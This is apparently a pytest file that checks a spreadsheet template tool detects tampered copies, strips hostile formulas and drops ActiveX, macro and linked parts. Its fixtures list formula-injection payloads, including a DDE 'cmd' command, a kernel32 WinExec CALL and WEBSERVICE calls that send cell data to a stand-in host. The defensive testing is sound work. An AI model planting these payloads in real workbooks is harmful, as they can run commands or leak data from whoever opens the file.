"""Copies that were tampered with: whatever comes back live is either what was sent, or it is
listed.
"""

import io
import os
import stat
import zipfile

import pytest

from tests.workbook_template.hand_parts import MICROSOFT, OFFICE, SHEET, WORKBOOK, HandMade
from tests.workbook_template.test_restore import LEDGER, edited
from tests.workbook_template.test_share import copy_of
from tests.workbook_template.travel_fixtures import quick_engine  # noqa: F401
from tests.workbook_template.travelling import formulas, parts, plan, rewritten, values
from workbook_template.travel import seal
from workbook_template.travel.merge import merged
from workbook_template.travel.ooxml.package import Package
from workbook_template.travel.recalc import recalculate
from workbook_template.travel.restore import restored
from workbook_template.user_errors import BookError

pytestmark = pytest.mark.usefixtures("quick_engine")

DOSE = "ACID_DOSE(A1,B1,C1,D1,E1,F1)"
#: What a stranger may write into a cell of the copy, or into the hidden sheet in place of a
#: formula.
HOSTILE = {
    "WEBSERVICE": 'WEBSERVICE("http://example.invalid/?"&A1)',
    "RTD": 'RTD("prog.id",,"topic")',
    "CALL": 'CALL("kernel32","WinExec","JCJ","x",0)',
    "EXEC": 'EXEC("x")',
    "DDE": "cmd|'/C x'!A0",
    "IMAGE": '_xlfn.IMAGE("http://example.invalid/a.png")',
    "HYPERLINK": 'HYPERLINK("http://example.invalid","dose")',
    "INDIRECT": 'INDIRECT("[other.xlsx]S!A1")',
    "FILTERXML": '_xlfn.FILTERXML("<a/>","//a")',
    "external": "[1]S!A1",
    "LAMBDA": "_xlfn.LAMBDA(_xlpm.x,_xlpm.x*2)(A1)",
    "LET": "_xlfn.LET(_xlpm.x,A1,_xlpm.x)",
    "CELL": 'CELL("filename",A1)',
    "unknown": "SOMETHING(A1)",
    "no such name": "Elsewhere+1",
    "OFFSET": "OFFSET(A1,1,0)",
}


def hidden(cell, value):
    return lambda book: book[LEDGER].__setitem__(cell, value)


def row_of(book, kind, number=0):
    rows = [
        row for row in range(4, book[LEDGER].max_row + 1) if book[LEDGER].cell(row, 2).value == kind
    ]
    return rows[number]


def in_formula(change):
    def edit(book):
        cell = book[LEDGER].cell(row_of(book, "formula"), 5)
        cell.value = change(cell.value)

    return edit


def new_row(book):
    last = book[LEDGER].max_row + 1
    for column, value in enumerate(["formula", "Plan", "A1", DOSE.replace("A1", "A2"), 5.0], 2):
        book[LEDGER].cell(last, column).value = value


def deleted_row(kind):
    return lambda book: book[LEDGER].delete_rows(row_of(book, kind))


def emptied_row(kind):
    def edit(book):
        for column in range(1, 9):
            book[LEDGER].cell(row_of(book, kind), column).value = None

    return edit


def remembered(book):
    book[LEDGER].cell(row_of(book, "input"), 6).value = 5.0


#: Every kind of change of the hidden sheet.
HIDDEN = {
    "another target": in_formula(lambda text: text.replace("C1", "2.5")),
    "ten times": in_formula(lambda text: text + "*10"),
    "a new row onto an input": new_row,
    "a deleted formula": deleted_row("formula"),
    "a deleted input": deleted_row("input"),
    "a deleted list of formulas": deleted_row("native"),
    "an emptied formula": emptied_row("formula"),
    "an emptied input": emptied_row("input"),
    "another remembered value": remembered,
    "another source": hidden("G2", "other.xlsx"),
    "another version": hidden("C2", "0.0.0"),
    **{f"hidden {name}": in_formula(lambda text, new=new: new) for name, new in HOSTILE.items()},
    **{
        f"hidden {name} inside": in_formula(lambda text, new=new: f"{text}+0*LEN({new})")
        for name, new in HOSTILE.items()
    },
}
#: Those that only the sender's key finds: the formula holds nothing that is off the list.
NEEDS_KEY = {
    "another target",
    "ten times",
    "another remembered value",
    "another source",
    "another version",
}


@pytest.fixture(scope="module")
def copy_and_key(tmp_path_factory):
    folder = tmp_path_factory.mktemp("sent")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(seal, "folder", lambda: folder)
        book = plan(folder / "plan.xlsx", 2)
        return copy_of(book).data, folder, book.read_bytes()


@pytest.fixture
def copy(copy_and_key):
    return copy_and_key[0]


@pytest.fixture
def own_key(copy_and_key, monkeypatch):
    monkeypatch.setattr(seal, "folder", lambda: copy_and_key[1])


def test_an_untouched_copy_is_said_to_be_unchanged(copy, own_key):
    assert restored(Package(copy)).verdict is seal.Verdict.UNCHANGED
    again = restored(edited(copy, lambda book: None))
    assert again.verdict is seal.Verdict.UNCHANGED and not again.new and not again.locked


def test_without_the_key_it_cannot_be_told(copy):
    result = restored(Package(copy))
    assert result.verdict is seal.Verdict.UNKNOWN and "cannot tell" in result.verdict.value
    assert not result.new and not result.locked


@pytest.mark.parametrize("kind", HIDDEN)
def test_a_changed_hidden_sheet_is_refused_with_the_key(copy, own_key, kind):
    with pytest.raises(BookError, match="changed"):
        restored(edited(copy, HIDDEN[kind]))


@pytest.mark.parametrize("kind", sorted(HIDDEN.keys() - NEEDS_KEY))
def test_a_changed_hidden_sheet_does_nothing_unlisted_without_the_key(copy, kind):
    try:
        result = restored(edited(copy, HIDDEN[kind]))
    except BookError as error:
        assert "changed" in str(error) or "name" in str(error)
        return
    assert result.locked and result.locked[0][0] == "Plan!G1"
    assert ("Plan", 1, 7) not in formulas(result.data)


@pytest.mark.parametrize("kind", HOSTILE)
@pytest.mark.parametrize("place", ["Z40", "A1", "H1"])
def test_a_hostile_formula_in_the_copy_becomes_its_value_and_is_listed(copy, own_key, kind, place):
    result = restored(
        edited(copy, lambda book: book["Plan"].__setitem__(place, "=" + HOSTILE[kind]))
    )
    assert f"Plan!{place}" in [where for where, _ in result.locked]
    assert not any(
        HOSTILE[kind][:6].lower() in text.lower() for text in formulas(result.data).values()
    )


@pytest.mark.parametrize("text", ["=B1*10", "=SUM(C1:C2)", "=ACID_DOSE(1,2,3,4,5,6)"])
@pytest.mark.parametrize("place", ["Z40", "A1", "H1"])
def test_a_harmless_new_formula_stays_and_is_listed(copy, own_key, text, place):
    result = restored(edited(copy, lambda book: book["Plan"].__setitem__(place, text)))
    assert f"Plan!{place}" in [where for where, _ in result.new]


def test_a_native_formula_that_became_a_number_is_listed(copy, own_key):
    result = restored(edited(copy, lambda book: book["Plan"].__setitem__("H1", 5)))
    assert ("Plan!H1", "held a formula and holds none now") in result.new


def test_names_rules_and_validations_are_locked(copy, own_key):
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.workbook.defined_name import DefinedName
    from openpyxl.worksheet.datavalidation import DataValidation

    def change(book):
        book.defined_names["Fetch"] = DefinedName("Fetch", attr_text='WEBSERVICE("x")')
        book["Plan"].conditional_formatting.add("A1", FormulaRule(formula=['INDIRECT("x")>1']))
        check = DataValidation(type="custom", formula1='RTD("x",,"y")>1')
        check.add("B1")
        book["Plan"].add_data_validation(check)
        book["Plan"]["Z1"] = "=Fetch"

    result = restored(edited(copy, change))
    assert {where for where, _ in result.locked} == {
        "Plan!Z1",
        "a conditional format on Plan!A1",
        "a data validation on Plan!B1",
        "the name Fetch",
    }
    with zipfile.ZipFile(io.BytesIO(result.data)) as file:
        everything = b"".join(file.read(name) for name in file.namelist())
    assert not any(word in everything for word in (b"WEBSERVICE", b"INDIRECT", b"RTD("))


@pytest.mark.parametrize("name", ["ACID_DOSE", "acid_dose", "_xll.ACID_DOSE"])
def test_a_name_like_a_function_of_the_add_in_is_refused(copy, tmp_path, name):
    from openpyxl.workbook.defined_name import DefinedName

    def change(book):
        book.defined_names[name] = DefinedName(name, attr_text="_xlfn.LAMBDA(_xlpm.x,1)")

    with pytest.raises(BookError, match="called like a function of the add-in"):
        restored(edited(copy, change))
    path = tmp_path / "masked.xlsx"
    path.write_bytes(edited(plan(tmp_path / "p.xlsx", 1).read_bytes(), change).data)
    with pytest.raises(BookError, match="called like a function of the add-in"):
        recalculate(path)
    with pytest.raises(BookError, match="called like a function of the add-in"):
        copy_of(path)


def test_a_hostile_end_of_a_colour_scale_is_locked(tmp_path, own_key):
    """Its formula is an attribute, not an element."""

    def extra(_, sheet):
        sheet.conditional_format("G1:G2", {"type": "2_color_scale", "min_type": "num"})

    path = tmp_path / "copy.xlsx"
    path.write_bytes(copy_of(plan(tmp_path / "plan.xlsx", 2, extra)).data)
    usual, hostile = b'<cfvo type="num" val="0"/>', b'<cfvo type="formula" val="WEBSERVICE($A$1)"/>'
    assert usual in parts(path)[SHEET]
    rewritten(path, {SHEET: lambda data: data.replace(usual, hostile, 1)})
    result = restored(Package.read(path))
    assert b"WEBSERVICE" not in parts(result.data)[SHEET]
    assert any("WEBSERVICE" in text for _, text in result.locked)


#: Parts that run or fetch something, as a stranger may add them: what they hang on, and the kind.
STRANGE = {
    "an ActiveX control": (SHEET, "control", OFFICE),
    "an embedded object": (SHEET, "oleObject", OFFICE),
    "macros": (WORKBOOK, "vbaProject", f"{MICROSOFT}/2006/relationships"),
    "an add-in from the web": ("", "webextensiontaskpanes", f"{MICROSOFT}/2011/relationships"),
    "a ribbon of the book's own": ("", "extensibility", f"{MICROSOFT}/2006/relationships/ui"),
    "a part of an unknown kind": (WORKBOOK, "unheardOf", OFFICE),
}


@pytest.mark.parametrize("what", STRANGE)
def test_a_strange_part_is_left_out_and_listed(copy, own_key, tmp_path, what):
    source, kind, base = STRANGE[what]
    path = tmp_path / "copy.xlsx"
    path.write_bytes(copy)
    made = HandMade(path)
    made.add(source, kind, "xl/strange/part1.xml", "<strange/>", base=base)
    result = restored(Package.read(made.written()))
    assert "xl/strange/part1.xml" not in parts(result.data)
    assert any(what in text and "left out" in text for _, text in result.new)


def test_a_picture_from_elsewhere_is_left_out_and_listed(copy, own_key, tmp_path):
    path = tmp_path / "copy.xlsx"
    path.write_bytes(copy)
    made = HandMade(path)
    drawing = "xl/drawings/drawing1.xml"
    made.add(SHEET, "drawing", drawing, '<wsDr xmlns="urn:x"/>')
    made.point(drawing, "image", "http://example.invalid/a.png", mode="External")
    result = restored(Package.read(made.written()))
    assert not any(b"example.invalid" in data for data in parts(result.data).values())
    assert any("linked picture" in text for _, text in result.new)


def test_into_the_senders_book_only_changed_inputs_go(copy_and_key):
    copy, _, book = copy_and_key

    def change(found):
        sheet = found["Plan"]
        sheet["A1"], sheet["E2"], sheet["D2"] = 150, "phosphoric", None
        sheet["B1"] = "=WEBSERVICE(1)"
        sheet["Z9"], sheet["Z8"], sheet["H1"] = "thanks", "=A1*2", 4
        found.create_sheet("More")["A1"] = "=1+1"
        in_formula(lambda text: text + "*10")(found)

    def since(found):
        found["Plan"]["C2"] = 5.9

    theirs = edited(copy, lambda found: (change(found), found["Plan"].__setitem__("C2", 5.2)))
    result = merged(theirs, edited(book, since))
    assert sorted(result.inputs) == [
        ("Plan!A1", 101.0, 150.0),
        ("Plan!D2", 302.0, None),
        ("Plan!E2", "lactic", "phosphoric"),
    ]
    refused = {where: text for where, text in result.refused}
    assert set(refused) >= {
        "Plan!B1",
        "Plan!C2",
        "Plan!Z9",
        "Plan!Z8",
        "Plan!H1",
        "Plan!G1",
        "More",
    }
    assert "5.2" in refused["Plan!C2"] and "5.9" in refused["Plan!C2"]
    assert formulas(result.data) == formulas(book)
    found = values(result.data)
    assert found["Plan", 1, 1] == 150.0 and found["Plan", 2, 5] == "phosphoric"
    assert found["Plan", 2, 3] == 5.9 and ("Plan", 2, 4) not in found
    assert ("Plan", 9, 26) not in found


@pytest.mark.parametrize("kind", HIDDEN)
def test_into_the_senders_book_no_formula_ever_comes_from_the_copy(copy_and_key, kind):
    copy, _, book = copy_and_key
    try:
        result = merged(edited(copy, HIDDEN[kind]), Package(book, "plan.xlsx"))
    except BookError:
        return
    assert formulas(result.data) == formulas(book) and not result.inputs


def test_moved_rows_in_the_senders_book_are_refused(copy_and_key):
    copy, _, book = copy_and_key

    def insert(found):
        found["Plan"]["G9"] = "=" + DOSE

    with pytest.raises(BookError, match="do not stand in the same cells.*Plan!G9"):
        merged(Package(copy), edited(book, insert))


def test_the_key_is_made_once_for_its_owner_only(tmp_path, monkeypatch):
    monkeypatch.setattr(seal, "folder", lambda: tmp_path / "data")
    assert seal.key() is None
    first = seal.made_key()
    assert len(first) == 32 and seal.made_key() == first == seal.key()
    if os.name == "posix":
        assert stat.S_IMODE((tmp_path / "data" / "seal.key").stat().st_mode) == 0o600
    assert [path.name for path in (tmp_path / "data").iterdir()] == ["seal.key"]
    (tmp_path / "data" / "seal.key").write_bytes(b"short")
    with pytest.raises(BookError, match="is damaged"):
        seal.key()
